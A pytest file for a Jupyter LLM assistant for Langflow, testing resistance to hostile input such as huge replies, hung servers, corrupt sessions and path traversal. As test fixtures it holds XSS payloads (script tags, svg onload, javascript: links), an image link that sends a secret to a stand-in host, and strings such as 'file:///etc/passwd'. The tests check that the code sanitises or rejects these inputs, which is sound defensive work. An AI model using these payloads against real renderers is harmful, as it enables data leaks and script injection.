"""Hostile and broken input, through the entry points a user calls: each answer is a clear
outcome -- a result, a one-line error, a warning -- never a traceback, a freeze or lost work.

Speed is not asserted here (benchmarks/run.py measures it); before the fixes these inputs
froze the engine for tens of seconds to minutes (quadratic scans holding the GIL).
"""

from __future__ import annotations

import asyncio

import pytest
from _support.components import GOOD, fenced, intent
from _support.fakellm import Endless, Hang

from lfassist_jupyter.core.component.extract import MAX_REPLY_CHARS, extract_component_code
from lfassist_jupyter.errors import ConfigError, LangflowError

# -- extraction: big and adversarial replies ------------------------------------------------


async def test_a_300_kb_reply_with_a_component_at_the_end_is_validated(llm, make_assistant):
    prose = "Some words about Langflow components.\n" * 8000  # ~300 KB of prose first
    llm.queue(intent("generate_component", "uppercase"), fenced(GOOD, prose=prose))
    result = await make_assistant("openai").arun("a component that uppercases text")
    assert result.status == "complete"
    assert result.validated is True
    assert result.class_name == "UppercaseComponent"
    assert result.code == GOOD


async def test_100000_blank_lines_are_an_answer_not_a_freeze(llm, make_assistant):
    llm.queue(intent("generate_component", "uppercase"), "Sure." + "\n" * 100_000 + "Which text?")
    result = await make_assistant("openai").arun("a component that uppercases text")
    assert result.status == "complete"
    assert result.code is None and result.error is None
    assert "Which text?" in result.result


async def test_blank_lines_and_class_lines_before_the_fence_do_not_hide_the_component(llm, make_assistant):
    junk = "\n" * 50_000 + "class A(\n" * 20_000 + "```\n" * 2
    llm.queue(intent("generate_component", "uppercase"), junk + "\n" + fenced(GOOD))
    result = await make_assistant("openai").arun("a component that uppercases text")
    assert result.status == "complete"
    assert result.class_name == "UppercaseComponent" and result.validated is True


async def test_one_long_fence_line_is_an_answer_not_a_freeze(llm, make_assistant):
    # "```" + 40,000 letters + "`" took 9 s in the fence regex (backtracking), 1 MB hours.
    reply = "```" + "a" * 300_000 + "`\nWhich text should it change?"
    llm.queue(intent("generate_component", "uppercase"), reply)
    result = await make_assistant("openai").arun("a component that uppercases text")
    assert result.status == "complete" and result.code is None
    assert result.result.endswith("Which text should it change?")


def test_only_the_first_megabyte_of_a_reply_is_read():
    assert extract_component_code("x" * MAX_REPLY_CHARS + fenced(GOOD)) is None
    assert extract_component_code("x" * 1000 + "\n" + fenced(GOOD)) == GOOD


def test_a_fence_indented_in_a_list_item_gives_code_lfx_can_load():
    indented = "\n".join(("   " + line) if line else "" for line in GOOD.splitlines())
    reply = f"1. Save this:\n\n   ```python\n{indented}\n   ```\n"
    assert extract_component_code(reply) == GOOD


def test_pathological_python_in_a_fence_is_still_extracted_as_text():
    # Code that makes ast.parse raise MemoryError / RecursionError: extraction must not.
    assert extract_component_code("```python\n" + "-" * 100_000 + "1\n```") == "-" * 100_000 + "1\n"
    assert extract_component_code("```python\nx = a" + ".b" * 200_000 + "\n```").startswith("x = a.b")


# -- a hung or endless model server -----------------------------------------------------------


def _provider(llm, kind: str, **options):
    from lfassist_jupyter.providers import create_provider

    base = llm.openai_base_url if kind == "openai" else llm.url
    return create_provider(kind, api_key="test-key-123456", base_url=base, **options)


@pytest.mark.parametrize("kind", ["openai", "anthropic"])
async def test_a_server_that_never_answers_is_a_clear_error(llm, make_assistant, kind):
    llm.queue(Hang(), Hang(), Hang())
    assistant = make_assistant(kind)
    assistant._provider = _provider(llm, kind, timeout=0.5, http_retries=2)
    result = await assistant.arun("a component that uppercases text")
    assert result.status == "error"
    assert "did not start answering within" in result.error and "LFASSIST_TIMEOUT" in result.error


@pytest.mark.parametrize("kind", ["openai", "anthropic"])
async def test_a_reply_that_never_ends_is_stopped_with_a_clear_error(llm, make_assistant, kind):
    llm.queue(intent("question"), Endless("x" * 8000))
    assistant = make_assistant(kind)
    assistant._provider = _provider(llm, kind, timeout=5)
    result = await assistant.arun("Explain Langflow in depth")
    assert result.status == "error"
    assert "without finishing" in result.error
    assert not llm.requests[-1].finished


async def test_the_stop_button_works_while_the_server_hangs(llm, make_assistant):
    llm.queue(Hang())
    assistant = make_assistant("openai")  # default timeout: the request would hang for 45 s

    async def press_stop() -> None:
        while not llm.requests:  # the classification call has reached the hung server
            await asyncio.sleep(0.05)
        await asyncio.sleep(0.2)
        assert assistant.cancel() is True

    stop = asyncio.create_task(press_stop())
    events = [event async for event in assistant.stream("a component that uppercases text")]
    await stop
    assert events[-1].event == "cancelled"


@pytest.mark.parametrize("value", ["nan", "inf", "-1", "0", "soon"])
def test_a_bad_lfassist_timeout_is_a_config_error(llm, monkeypatch, value):
    monkeypatch.setenv("LFASSIST_TIMEOUT", value)
    with pytest.raises(ConfigError, match="seconds"):
        _provider(llm, "openai")


def test_lfassist_timeout_sets_the_provider_deadline(llm, monkeypatch):
    monkeypatch.setenv("LFASSIST_TIMEOUT", "12")
    assert _provider(llm, "openai").timeout == 12.0
    assert _provider(llm, "anthropic", timeout=3).timeout == 3.0


# -- a Langflow server that answers oddly, and malformed URLs ----------------------------------

HTML = "<html><body>Sign in to the proxy</body></html>"


def _client(routes: dict[str, object], *, api_key: str | None = "k" * 20):
    """A LangflowClient whose server answers ``routes[path]`` (a JSON value, or HTML text) with 200."""
    import httpx

    from lfassist_jupyter.langflow.client import LangflowClient

    def handler(request: httpx.Request) -> httpx.Response:
        path = request.url.path.rstrip("/")
        body = routes.get(path, {"status": "ok"} if path == "/health" else {})
        if isinstance(body, str):
            return httpx.Response(200, text=body, headers={"content-type": "text/html"})
        return httpx.Response(200, json=body)

    return LangflowClient(url="http://langflow.test", api_key=api_key, transport=httpx.MockTransport(handler))


@pytest.mark.parametrize(
    ("routes", "api_key"),
    [
        ({"/api/v1/version": HTML}, "k" * 20),
        ({"/api/v1/version": ["1.13"]}, "k" * 20),
        ({"/api/v1/auto_login": ["token"]}, None),
        ({"/api/v1/auto_login": HTML}, None),
        ({"/api/v1/auto_login": {"access_token": "t"}, "/api/v1/api_key": ["key"]}, None),
        ({"/api/v1/auto_login": {"access_token": "t"}, "/api/v1/api_key": {"api_key": 42}}, None),
    ],
)
def test_odd_answers_to_connect_are_one_clear_error(routes, api_key):
    client = _client(routes, api_key=api_key)
    with pytest.raises(LangflowError) as info:
        client.connect()
    assert "Langflow" in str(info.value) and "\n" not in str(info.value)
    assert client.connected is False


@pytest.mark.parametrize("flows", [HTML, "null", [1, "x", None], {"items": "nope"}, {"items": [{"no": "id"}]}])
def test_an_odd_list_of_flows_is_an_error_or_skipped(flows):
    client = _client({"/api/v1/flows": flows})
    try:
        components = client.list_components(ours_only=False)
    except LangflowError as exc:
        assert "Langflow" in str(exc)
    else:
        assert components == []  # entries that are not flows are skipped


@pytest.mark.parametrize("build", [HTML, ["x"], {"type": "A"}, {"data": "x"}])
def test_an_odd_answer_to_the_build_is_a_langflow_error(build):
    with pytest.raises(LangflowError):
        _client({"/api/v1/custom_component": build}).validate_code(GOOD)


@pytest.mark.parametrize("url", ["http://[::1", "javascript:alert(1)", "file:///etc/passwd", "http://host:abc", "   "])
def test_a_malformed_langflow_url_is_a_config_error(url, monkeypatch):
    from lfassist_jupyter.langflow.client import LangflowClient

    monkeypatch.delenv("LANGFLOW_URL", raising=False)
    with pytest.raises(ConfigError, match="URL"):
        LangflowClient(url=url)


def test_connect_magic_with_a_malformed_url_is_a_usage_line(ip, capsys):
    from IPython.core.error import UsageError

    try:
        ip.run_line_magic("assist", "connect http://[::1")
    except UsageError as exc:
        assert "URL" in str(exc)
    else:
        assert "URL" in capsys.readouterr().out


def test_register_with_a_non_json_build_reply_keeps_the_code_and_says_so(ip, llm, capsys):
    llm.queue(intent("generate_component"), fenced(GOOD))
    magics = ip.magics_manager.registry["AssistMagics"]
    magics.workspace.connect(_client({"/api/v1/custom_component": HTML}), server_validation=False)
    result = ip.run_cell_magic("assist", "--register", "a component that uppercases text")
    assert result.validated and ip.rl_next_input == GOOD  # the validated code is in the notebook
    out = capsys.readouterr().out
    assert "Not registered:" in out and "Unexpected error" not in out
    assert result.registered is None


async def test_the_chain_merges_builds_and_findings(sandbox):
    from lfassist_jupyter.langflow.validator import ChainValidator
    from lfassist_jupyter.validation.report import Finding, ValidationReport

    class Server:
        async def avalidate(self, code):
            return ValidationReport(
                is_valid=False,
                phase="runtime",
                error="server could not build",
                findings=[Finding(severity="error", phase="runtime", message="server: no build", rule="srv")],
                phases_run=["server"],
            )

        async def areference(self):
            return None

    report = await ChainValidator(sandbox, Server()).avalidate(GOOD)
    assert report.is_valid is False and report.builds is False
    assert [f.rule for f in report.findings if f.rule == "srv"] == ["srv"]
    assert report.class_name == "UppercaseComponent"


# -- sessions: wrong types, a read-only data directory, very long names ----------------------

BAD_SESSIONS = {
    "agentic_content": {"id": "agentic_content", "turns": [{"role": "user", "content": 12345}]},
    "agentic_updated": {"id": "agentic_updated", "updated": "yesterday", "turns": []},
    "agentic_turns": {"id": "agentic_turns", "turns": "many"},
    "agentic_role": {"id": "agentic_role", "turns": [{"role": "system", "content": "x"}]},
    "agentic_list": ["not", "a", "session"],
}


def _write_sessions(directory, good_id: str = "agentic_good") -> None:
    import json

    from lfassist_jupyter.core.session import Session, SessionStore, Turn

    store = SessionStore(directory)
    session = Session(id=good_id)
    session.add(Turn(role="user", content="a component that uppercases text"), window=5)
    store.save(session)
    for name, data in BAD_SESSIONS.items():
        (directory / f"{name}.json").write_text(json.dumps(data), encoding="utf-8")


def test_session_files_with_wrong_types_are_set_aside_and_history_still_works(ip, tmp_path, capsys, caplog):
    sessions = tmp_path / "data" / "sessions"
    sessions.mkdir(parents=True)
    _write_sessions(sessions)
    magics = ip.magics_manager.registry["AssistMagics"]
    magics.workspace.data_dir = tmp_path / "data"
    magics.workspace._store = None
    ip.run_line_magic("assist", "history")
    out = capsys.readouterr().out
    assert "agentic_good" in out and "1 turns" in out
    assert sorted(p.name for p in sessions.iterdir() if ".corrupt-" in p.name) == sorted(
        f"{name}.json.corrupt-1" for name in BAD_SESSIONS
    )
    assert "set aside" in caplog.text


def test_the_panel_opens_with_a_corrupt_session_next_to_good_ones(llm, monkeypatch, sandbox, tmp_path):
    from lfassist_jupyter.ui.panel import ChatPanel
    from lfassist_jupyter.ui.workspace import Workspace

    monkeypatch.setenv("OPENAI_BASE_URL", llm.openai_base_url)
    monkeypatch.setenv("OPENAI_API_KEY", "sk-bad-input-test-0123456789")
    _write_sessions(tmp_path / "sessions")
    panel = ChatPanel(workspace=Workspace(data_dir=tmp_path, local_validator=sandbox))
    assert [s["id"] for s in panel.sessions] == ["agentic_good"]


async def test_a_request_in_a_session_whose_file_is_corrupt_starts_it_fresh(llm, make_assistant, tmp_path):
    from lfassist_jupyter.core.session import SessionStore

    _write_sessions(tmp_path / "s")
    llm.queue(intent("question", "What is a flow?"), "A flow is a graph of components.")
    assistant = make_assistant("openai", session_store=SessionStore(tmp_path / "s"), session_id="agentic_content")
    result = await assistant.arun("What is a flow?")
    assert result.status == "complete" and "graph of components" in result.result
    assert SessionStore(tmp_path / "s").load("agentic_content").turns[0].content == "What is a flow?"


async def test_an_unwritable_data_directory_is_told_once(llm, make_assistant, tmp_path):
    from lfassist_jupyter.core.session import SessionStore

    blocker = tmp_path / "not-a-dir"
    blocker.write_text("a file where the data directory should be")  # works even as root
    assistant = make_assistant("openai", session_store=SessionStore(blocker / "sessions"))
    llm.queue(intent("question"), "First answer.", intent("question"), "Second answer.")
    first = await assistant.arun("What is a flow?")
    second = await assistant.arun("What is a component?")
    assert first.status == second.status == "complete"
    assert any("not being saved" in w for w in first.warnings)
    assert not any("not being saved" in w for w in second.warnings)  # once, not on every request


def test_the_panel_shows_the_not_saved_notice(llm, monkeypatch, sandbox, tmp_path):
    from lfassist_jupyter.ui.panel import ChatPanel
    from lfassist_jupyter.ui.workspace import Workspace

    monkeypatch.setenv("OPENAI_BASE_URL", llm.openai_base_url)
    monkeypatch.setenv("OPENAI_API_KEY", "sk-bad-input-test-0123456789")
    blocker = tmp_path / "not-a-dir"
    blocker.write_text("x")
    llm.queue(intent("question"), "A flow is a graph.")
    panel = ChatPanel(workspace=Workspace(data_dir=blocker, local_validator=sandbox))
    panel.send_prompt("What is a flow?")
    panel.wait(60)
    assert "not being saved" in panel.notice
    assert panel.messages[-1]["role"] == "assistant"


def test_a_very_long_session_name_is_saved_under_a_safe_file_name(ip, llm, tmp_path):
    llm.queue(intent("question", "What is a flow?"), "Answer one.")
    magics = ip.magics_manager.registry["AssistMagics"]
    magics.workspace.data_dir = tmp_path
    magics.workspace._store = None
    name = "s" * 300
    result = ip.run_cell_magic("assist", f"--session {name} --quiet", "What is a flow?")
    assert result.status == "complete" and not result.warnings
    files = list((tmp_path / "sessions").glob("*.json"))
    assert len(files) == 1 and len(files[0].name) < 120
    assert magics.workspace.store.load(magics.workspace.new_session_id(name)).turns[0].content == "What is a flow?"


# -- magic options and odd characters ---------------------------------------------------------


@pytest.mark.parametrize("name", ["1bad-name", "class", "a-b", "None", "x.y"])
def test_out_with_an_unusable_name_is_a_usage_error_before_any_model_call(ip, llm, name):
    from IPython.core.error import UsageError

    with pytest.raises(UsageError, match="--out needs a Python variable name"):
        ip.run_cell_magic("assist", f"--out {name}", "a component that uppercases text")
    assert llm.requests == []


def test_out_with_a_good_name_binds_it(ip, llm):
    llm.queue(intent("question", "What is a flow?"), "A graph.")
    ip.run_cell_magic("assist", "--out answer_1 --quiet", "What is a flow?")
    assert ip.user_ns["answer_1"].result == "A graph."


@pytest.mark.parametrize("value", ["nan", "inf", "-1", "0"])
def test_assist_validate_with_a_bad_timeout_is_one_usage_line(ip, value):
    from IPython.core.error import UsageError

    with pytest.raises(UsageError) as info:
        ip.run_cell_magic("assist_validate", f"--timeout {value}", GOOD)
    assert "\n" not in str(info.value) and "timeout" in str(info.value).lower()


@pytest.mark.parametrize("kind", ["openai", "anthropic"])
async def test_a_lone_surrogate_in_the_prompt_reaches_the_model_cleaned(llm, make_assistant, kind):
    llm.queue(intent("question", "What is a flow?"), "A flow is a graph.")
    result = await make_assistant(kind).arun("What is a flow\ud800?")
    assert result.status == "complete" and result.result == "A flow is a graph."
    assert "flow\ufffd?" in llm.requests[0].text


# -- the panel renders untrusted model output --------------------------------------------------

HOSTILE_ANSWER = """\
Here you go ![x](http://evil.test/?k=secret) and ![inline](data:image/png;base64,AAAA).

<img src="http://evil.test/raw.png"> <script>alert(1)</script>
<svg onload="alert(1)"><circle/></svg>

[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [docs](https://docs.langflow.org)
"""


def _elements(html: str) -> list[tuple[str, list[tuple[str, str]]]]:
    """The real elements of an HTML fragment (what a browser would build), with their attributes."""
    from html.parser import HTMLParser

    found: list[tuple[str, list[tuple[str, str]]]] = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, [(k, v or "") for k, v in attrs]))

    Collect().feed(html)
    return found


def test_the_panel_never_renders_remote_resources_or_scripts_from_model_output(llm, monkeypatch, sandbox, tmp_path):
    from lfassist_jupyter.ui.panel import ChatPanel
    from lfassist_jupyter.ui.workspace import Workspace

    monkeypatch.setenv("OPENAI_BASE_URL", llm.openai_base_url)
    monkeypatch.setenv("OPENAI_API_KEY", "sk-bad-input-test-0123456789")
    llm.queue(intent("question", "links?"), HOSTILE_ANSWER)
    panel = ChatPanel(workspace=Workspace(data_dir=tmp_path, local_validator=sandbox))
    panel.send_prompt("Show me some links")
    panel.wait(60)
    html = panel.messages[-1]["html"]
    elements = _elements(html)
    tags = {tag for tag, _ in elements}
    assert {"img", "script", "svg", "iframe", "style", "object", "video"}.isdisjoint(tags)
    attrs = [(tag, name, value) for tag, pairs in elements for name, value in pairs]
    assert not [a for a in attrs if a[1].startswith("on") or a[1] in ("src", "srcset", "style", "background")]
    hrefs = [value for _, name, value in attrs if name == "href"]
    assert all(h.startswith(("http://", "https://", "mailto:")) for h in hrefs)
    assert "https://docs.langflow.org" in hrefs
    assert "http://evil.test/?k=secret" in hrefs  # the image is a link the user may follow, not a fetch
    assert [v for tag, name, v in attrs if tag == "a" and name == "rel"] == ["noopener noreferrer"] * len(hrefs)
    # And the stored session, restored into the panel, renders the same way.
    panel.switch_session(panel.session_id)
    restored = panel.messages[-1]["html"]
    assert "<img" not in restored and "<script" not in restored


async def test_an_answer_in_the_cell_card_loads_nothing_remote(llm, make_assistant):
    """The ``%%assist`` card renders an answer's Markdown itself (the one path, as the panel does);
    no front end gets ``text/markdown`` to render with raw HTML on.  Its images and HTML arrive
    inert, its code blocks as written."""
    import html as html_module
    import re

    from _support.display import shown

    answer = (
        "See ![chart](http://evil.test/?k=secret) and <img src='http://evil.test/x'> <script>alert(1)</script>\n\n"
        "```python\nif a < b:\n    pass\n```\n"
    )
    llm.queue(intent("question"), answer)
    result = await make_assistant("openai").arun("how do I compare values?")
    bundle = shown(result)
    assert "text/markdown" not in bundle
    rendered = bundle["text/html"]
    assert "<img" not in rendered and "<script" not in rendered
    assert '<a href="http://evil.test/?k=secret" rel="noopener noreferrer">[image: chart]</a>' in rendered
    assert "if a < b:" in html_module.unescape(re.sub(r"<[^>]+>", "", rendered))  # the code, as written


def test_raw_html_links_images_and_styles_are_sanitised():
    from lfassist_jupyter.ui.messages import render_markdown

    html = render_markdown('```python\nx = 1\n```\n\n[rel](/api/contents) ![a](https://h/i.png "t")')
    assert 'class="highlight"' in html and "<img" not in html
    assert 'href="/api' not in html  # relative URLs would reach the Jupyter server itself


@pytest.mark.parametrize("prompt", [b"a component that uppercases text", 123, None])
async def test_a_prompt_that_is_not_text_is_one_clear_error(llm, make_assistant, prompt):
    result = await make_assistant("openai").arun(prompt)
    assert result.status == "error"
    assert result.error.startswith("The request must be text") and "Unexpected" not in result.error
    assert llm.requests == []


@pytest.mark.parametrize("component_id", ["../users/me", "a/b", "", "x?y=1"])
def test_a_component_id_cannot_walk_the_langflow_api(component_id):
    import httpx

    from lfassist_jupyter.langflow.client import LangflowClient

    calls = []
    transport = httpx.MockTransport(lambda request: calls.append(request) or httpx.Response(204))
    client = LangflowClient(url="http://langflow.test", api_key="k" * 20, transport=transport)
    with pytest.raises(ConfigError, match="component id"):
        client.delete_component(component_id)
    assert calls == []  # nothing was deleted anywhere
    client.delete_component("3f2a9c1e-0b6d-4a57-9c43-2d1f0e8b7a65")
    assert [r.url.path for r in calls] == ["/api/v1/flows/3f2a9c1e-0b6d-4a57-9c43-2d1f0e8b7a65"]


def test_a_component_file_stays_in_the_components_folder(tmp_path):
    with pytest.raises(ConfigError, match="category"):
        _sync_write(_client({}), tmp_path, category="../../outside")
    with pytest.raises(ConfigError, match="class name"):
        _sync_write(_client({}), tmp_path, class_name="../evil")
    assert list(tmp_path.iterdir()) == []


def _sync_write(client, folder, **kwargs):
    from lfassist_jupyter.runtime import run_sync

    return run_sync(client.write_component_file(GOOD, folder, reload=False, **kwargs))


@pytest.mark.parametrize("kind", ["openai", "anthropic"])
@pytest.mark.parametrize("url", ["http://[::1", "javascript:alert(1)", "ftp://models.test/v1", "http://"])
async def test_a_malformed_provider_url_is_one_clear_error(kind, url):
    from lfassist_jupyter import Assistant

    assistant = Assistant(provider=kind, base_url=url, api_key="k" * 20, validator=None, session_store=None)
    result = await assistant.arun("What is a flow?")
    assert result.status == "error"
    assert "base URL" in result.error and "Unexpected" not in result.error


def test_a_host_and_port_alone_is_plain_http(llm):
    from lfassist_jupyter.providers import create_provider

    provider = create_provider("openai", api_key="k" * 20, base_url=llm.openai_base_url.removeprefix("http://"))
    assert provider.base_url == llm.openai_base_url
